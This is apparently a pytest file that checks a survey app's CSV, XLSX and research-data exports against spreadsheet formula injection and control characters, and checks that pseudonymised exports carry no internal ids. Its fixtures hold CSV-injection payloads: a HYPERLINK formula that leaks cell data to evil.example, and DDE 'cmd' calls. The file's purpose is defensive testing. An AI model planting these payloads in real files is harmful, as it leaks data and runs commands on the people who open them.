"""Exports are safe to open: no CSV cell a spreadsheet would run (OWASP's CSV-injection
guidance), every XLSX cell of people's words a string never a formula, characters XML
cannot hold refused when typed and written as U+FFFD when already stored, and
pseudonymised exports that carry no internal respondent, session or answer id."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from lxml import etree

from cohear import cells
from cohear.errors import Unprocessable
from comms import exports as comms_exports
from comms import service as comms_service
from surveys import coding, exports, service, xlsform

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1",
           "'=already quoted"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def users(people):
    return {role: user for role, (user, _) in people.items()}


@pytest.fixture
def hostile(store, users):
    """A survey whose typed answers, a choice value and a code all start like formulas."""
    comm, col = users["communicator"], users["collector"]
    s = service.create_survey(store, comm, title="=Survey", purpose="-purpose",
                              base_language="en", questions=[
                                  {"kind": "consent", "name": "consent", "text": "Agree?"},
                                  {"kind": "open", "name": "story", "text": "Tell us"},
                                  {"kind": "single_choice", "name": "pick", "text": "Pick",
                                   "options": {"choices": [{"value": "=1+1", "label": "=1+1"},
                                                           {"value": "b", "label": "@b"}]}},
                                  {"kind": "scale", "name": "ease", "text": "Ease?",
                                   "options": {"min": -2, "max": 2}}])
    service.open_language(store, comm, s["id"], "en")
    q = {x["name"]: x["id"] for x in s["questions"]}
    cb = coding.create_codebook(store, users["researcher"], "Risky", codes=[
        {"name": "=cmd|' /C calc'!A0", "memo": "+memo"}])
    code = cb["codes"][0]["id"]
    sessions = []
    for text in HOSTILE:
        sess = service.start_session(store, col, s["id"], "en")
        service.record_consent(store, col, sess["id"], method="tick")
        a = service.submit_answer(store, col, sess["id"], q["story"], text=text)
        service.submit_answer(store, col, sess["id"], q["pick"], choices=["=1+1"])
        service.submit_answer(store, col, sess["id"], q["ease"], text="-2")
        coding.apply_code(store, users["researcher"], a["id"], code)
        sessions.append(sess)
    return {"survey": s, "codebook": cb, "sessions": sessions}


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_nothing_runs(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell


def test_no_csv_cell_cohear_writes_would_run_and_the_words_come_back(store, users, hostile,
                                                                     tmp_path):
    survey_id = hostile["survey"]["id"]
    for fmt in ("csv", "wide-csv"):
        out = tmp_path / f"{fmt}.csv"
        report = exports.export_survey(store, users["researcher"], survey_id, fmt, out)
        # The long CSV's dictionary is NAME.dictionary.csv, the wide one's
        # NAME.wide-dictionary.csv (README, exports).
        kind = "wide-dictionary" if fmt == "wide-csv" else "dictionary"
        for path in (out, tmp_path / f"{fmt}.{kind}.csv"):
            rows = csv_cells(path.read_text(encoding="utf-8-sig"))
            assert_nothing_runs(rows)
        assert report["dictionary"]
        story = "answer_text" if fmt == "csv" else "q:story"
        read = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        # Undoing the documented escaping gives back exactly what was typed.
        stored = sorted(r["text"] for r in store.all("SELECT text FROM answer_texts"))
        assert sorted(cells.csv_uncell(r[story]) for r in read
                      if fmt == "wide-csv" or r["question"] == "story") == stored
        picks = {r["q:pick"] if fmt == "wide-csv" else r["choices"] for r in read
                 if fmt == "wide-csv" or r["question"] == "pick"}
        assert picks == {"'=1+1"}
    dictionary = (tmp_path / "csv.dictionary.csv").read_text(encoding="utf-8-sig")
    assert "apostrophe" in dictionary and "U+FFFD" in dictionary
    # Numbers stay numbers: a scale point typed as "-2" is text and escaped; ids are bare.
    raw = (tmp_path / "csv.csv").read_text(encoding="utf-8-sig").splitlines()
    assert any(re.search(r',"\'-2",', line) for line in raw)
    assert all(re.match(r'^"P-[A-Z0-9]+",\d+,\d+,"S-', line) for line in raw[1:])
    codebook = coding.export_codebook_csv(store, hostile["codebook"]["id"])
    assert_nothing_runs(csv_cells(codebook))
    comms_service.create_message(store, users["communicator"], title="=HYPERLINK(1)",
                                 source_text="Wash your hands.", channel="poster")
    coverage = comms_exports.coverage_csv(store)
    assert_nothing_runs(csv_cells(coverage))
    assert "'=HYPERLINK(1)" in coverage


@pytest.mark.parametrize("text", HOSTILE + ["'plain", "\t", "\r\n=x", "－1", "＋1", "＠x"])
def test_every_owasp_trigger_gets_one_apostrophe_and_numbers_stay_numbers(text):
    escaped = cells.csv_cell(text)
    assert escaped == "'" + text and cells.csv_uncell(escaped) == text
    assert cells.csv_cell(-5) == -5 and cells.csv_cell(2.5) == 2.5 and cells.csv_cell(None) == ""
    assert cells.csv_cell("plain -5") == "plain -5"
    buf = io.StringIO()
    cells.csv_writer(buf).writerow([text, -5, "a;=1+1"])
    assert buf.getvalue().split(",")[-2:] == ["-5", '"a;=1+1"\r\n']


def xlsx_cells(path) -> list[tuple[str | None, bool, str]]:
    """(type, is formula, text) of every cell in every sheet, read from the XML itself."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    out = []
    with zipfile.ZipFile(path) as zf:
        shared = []
        if "xl/sharedStrings.xml" in zf.namelist():
            shared = ["".join(si.itertext()) for si in
                      etree.fromstring(zf.read("xl/sharedStrings.xml")).iterfind("m:si", ns)]
        for name in zf.namelist():
            if not re.match(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            for c in etree.fromstring(zf.read(name)).iter(f"{{{ns['m']}}}c"):
                kind = c.get("t")
                inline = c.find("m:is", ns)
                value = "".join(inline.itertext() if inline is not None else "") \
                    if kind == "inlineStr" else (
                    shared[int(c.find("m:v", ns).text)] if kind == "s" else
                    (c.findtext("m:v", namespaces=ns) or ""))
                out.append((kind, c.find("m:f", ns) is not None, value))
    return out


def test_xlsx_holds_every_typed_word_as_a_string_never_a_formula(store, users, hostile, tmp_path):
    out = tmp_path / "survey.xlsx"
    exports.export_survey(store, users["researcher"], hostile["survey"]["id"], "xlsx", out)
    found = xlsx_cells(out)
    assert found and not any(formula for _, formula, _ in found)
    texts = {value for kind, _, value in found if kind in ("s", "inlineStr", "str")}
    stored = {r["text"] for r in store.all("SELECT text FROM answer_texts")}
    assert stored <= texts  # exactly as stored: XLSX needs no apostrophes
    assert "=1+1" in texts and "code:=cmd|' /C calc'!A0" in texts
    from openpyxl import load_workbook
    wb = load_workbook(out)
    assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)
    notes = [r[1] for r in wb["dictionary"].iter_rows(values_only=True)]
    assert any("never as a formula" in (n or "") for n in notes)


def test_the_xlsform_export_writes_labels_and_choices_as_strings(store, users, hostile):
    data = xlsform.export_xlsform(store, hostile["survey"]["id"])
    import tempfile
    from pathlib import Path
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "form.xlsx"
        path.write_bytes(data)
        found = xlsx_cells(path)
    assert not any(formula for _, formula, _ in found)
    assert {"=1+1", "@b", "=Survey", "-purpose"} <= {v for _, _, v in found}


# ESC starts terminal sequences; DEL and the C1 controls (U+009B is a CSI) act on
# terminals too, though XML could hold them.
BAD_CHARACTERS = ["\x0b", "\x00", "\x1f", "\ufffe", "\x1b", "\x7f", "\x9b", "\x85"]


@pytest.mark.parametrize("bad", BAD_CHARACTERS)
def test_a_typed_control_character_is_refused_and_names_no_words(store, users, hostile, bad):
    s, col = hostile["survey"], users["collector"]
    q = {x["name"]: x["id"] for x in s["questions"]}
    sess = service.start_session(store, col, s["id"], "en")
    service.record_consent(store, col, sess["id"], method="tick")
    before = store.one("SELECT count(*) FROM answers")[0]
    with pytest.raises(Unprocessable) as caught:
        service.submit_answer(store, col, sess["id"], q["story"], text=f"my words{bad}")
    assert f"U+{ord(bad):04X}" in caught.value.detail and "my words" not in caught.value.detail
    with pytest.raises(Unprocessable) as caught:
        service.add_text_version(store, users["reviewer"], 1, f"secret words{bad}here")
    assert f"U+{ord(bad):04X}" in caught.value.detail and "secret" not in caught.value.message()
    with pytest.raises(Unprocessable):
        coding.add_code(store, users["researcher"], hostile["codebook"]["id"], f"bad{bad}code")
    with pytest.raises(Unprocessable):
        coding.import_codebook_csv(store, users["researcher"], "csv", f"path\nx{bad}y\n")
    with pytest.raises(Unprocessable):
        comms_service.create_message(store, users["communicator"], title="t",
                                     source_text="Hello", channel="sms", audience=f"a{bad}")
    assert store.one("SELECT count(*) FROM answers")[0] == before


def test_over_http_a_control_character_is_a_422_problem_on_every_kind_of_body(api):
    comm, researcher = api["communicator"], api["researcher"]
    r = comm.post("/api/surveys", json={"title": "T\u000b", "purpose": "p"})
    assert r.status_code == 422 and "U+000B" in r.json()["detail"]
    r = researcher.post("/api/codebooks", json={"name": "Book", "codes": [{"name": "a\x00b"}]})
    assert r.status_code == 422 and "U+0000" in r.json()["detail"]
    r = comm.post("/api/messages", json={"title": "t", "source_text": "Hi\x0c", "channel": "sms"})
    assert r.status_code == 422 and r.headers["content-type"].startswith("application/problem")
    assert "Hi" not in r.json()["detail"]


def test_words_stored_before_the_rule_export_as_the_replacement_character(store, users, hostile,
                                                                          tmp_path, api):
    # Old data (and Whisper's transcripts) may hold what the rule now refuses.
    store.conn.execute("UPDATE answer_texts SET text = ? WHERE id = 1",
                       ("before\x0bafter\x00end",))
    store.conn.execute("UPDATE codes SET name = 'old\x0bcode', memo = 'm\x1f' WHERE id = ?",
                       (hostile["codebook"]["codes"][0]["id"],))
    store.conn.commit()
    survey_id = hostile["survey"]["id"]
    for fmt in exports.FORMATS:
        out = tmp_path / f"export{exports.FORMATS[fmt]}"
        exports.export_survey(store, users["researcher"], survey_id, fmt, out)
    with zipfile.ZipFile(tmp_path / "export.qdpx") as zf:
        texts = [zf.read(n).decode() for n in zf.namelist() if n.startswith("sources/")]
        etree.fromstring(zf.read("project.qde"))  # well-formed
    assert "before\ufffdafter\ufffdend" in texts
    assert "before\ufffdafter\ufffdend" in {v for _, _, v in xlsx_cells(tmp_path / "export.xlsx")}
    answers = json.loads((tmp_path / "export.json").read_text())["answers"]
    assert any(a["answer_text"] == "before\x0bafter\x00end" for a in answers)  # JSON holds it
    qdc = api["researcher"].get(f"/api/codebooks/{hostile['codebook']['id']}/export",
                                params={"format": "qdc"})
    assert qdc.status_code == 200 and "old\ufffdcode" in qdc.text


def test_pseudonymised_exports_carry_no_internal_ids_and_identifiable_ones_do(store, users,
                                                                           hostile, tmp_path):
    survey_id = hostile["survey"]["id"]
    session_ids = {str(s["id"]) for s in hostile["sessions"]}
    answer_ids = {str(r["id"]) for r in store.all("SELECT id FROM answers")}
    respondents = {r["cohear_id"] for r in store.all("SELECT cohear_id FROM respondents")}
    for identifiable, who in ((False, users["researcher"]), (True, users["admin"])):
        tag = "id" if identifiable else "ps"
        long = tmp_path / f"{tag}.csv"
        exports.export_survey(store, who, survey_id, "csv", long, identifiable=identifiable)
        rows = list(csv.DictReader(io.StringIO(long.read_text(encoding="utf-8-sig"))))
        dictionary = (tmp_path / f"{tag}.dictionary.csv").read_text(encoding="utf-8-sig")
        if identifiable:
            assert {r["session_id"] for r in rows} == session_ids
            assert {r["answer_id"] for r in rows} == answer_ids
            assert {r["respondent"] for r in rows} <= respondents
            ident = rows
            continue
        assert "session_id" not in rows[0] and "answer_id" not in rows[0]
        assert "session_id" not in dictionary and "answer_id" not in dictionary
        assert all(r["session"].startswith("S-") and r["answer"].startswith("A-") for r in rows)
        assert len({r["session"] for r in rows}) == len(session_ids)
        pseudo = rows
        json_out = tmp_path / "ps.json"
        exports.export_survey(store, who, survey_id, "json", json_out)
        for item in json.loads(json_out.read_text())["answers"]:
            assert "session_id" not in item and "answer_id" not in item
        qdpx = tmp_path / "ps.qdpx"
        exports.export_survey(store, who, survey_id, "qdpx", qdpx)
    # Nothing in the pseudonymised files joins to the identifiable one.
    ident_values = {v for r in ident for k, v in r.items()
                    if k in ("respondent", "session_id", "answer_id")}
    pseudo_values = {v for r in pseudo for k, v in r.items()
                     if k in ("respondent", "session", "answer")}
    assert not ident_values & pseudo_values
    id_qdpx = tmp_path / "id.qdpx"
    exports.export_survey(store, users["admin"], survey_id, "qdpx", id_qdpx, identifiable=True)

    def guids(path):
        with zipfile.ZipFile(path) as zf:
            return set(re.findall(rb'guid="([0-9a-f-]{36})"', zf.read("project.qde")))

    code_guids = {c["guid"].encode() for c in hostile["codebook"]["codes"]}
    assert (guids(qdpx) & guids(id_qdpx)) <= code_guids  # only the codes are shared
    with zipfile.ZipFile(qdpx) as zf:
        qde = zf.read("project.qde").decode()
    for name in re.findall(r'name="([^"]*)"', qde):
        assert not re.search(r"\(answer \d+\)|\bR-", name)
